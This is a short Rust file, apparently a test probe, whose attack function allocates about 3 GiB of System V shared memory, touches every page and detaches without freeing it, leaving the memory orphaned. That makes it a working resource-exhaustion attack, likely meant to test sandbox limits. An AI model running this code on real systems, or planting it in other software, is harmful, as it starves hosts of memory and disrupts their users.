// Holds shared memory that no longer belongs to any process.
extern "C" {
    fn shmget(key: i32, size: usize, flags: i32) -> i32;
    fn shmat(id: i32, at: *const u8, flags: i32) -> *mut u8;
    fn shmdt(at: *const u8) -> i32;
}

fn attack() -> bool {
    let mut held = 0_usize;
    unsafe {
        for _ in 0..12 {
            let id = shmget(0, 256 << 20, 0o1600);
            if id < 0 {
                return false;
            }
            let at = shmat(id, std::ptr::null(), 0);
            if at as isize == -1 {
                return false;
            }
            for page in (0..256 << 20).step_by(4096) {
                at.add(page).write_volatile(1);
            }
            shmdt(at);
            held += 256;
        }
    }
    held > 1024
}
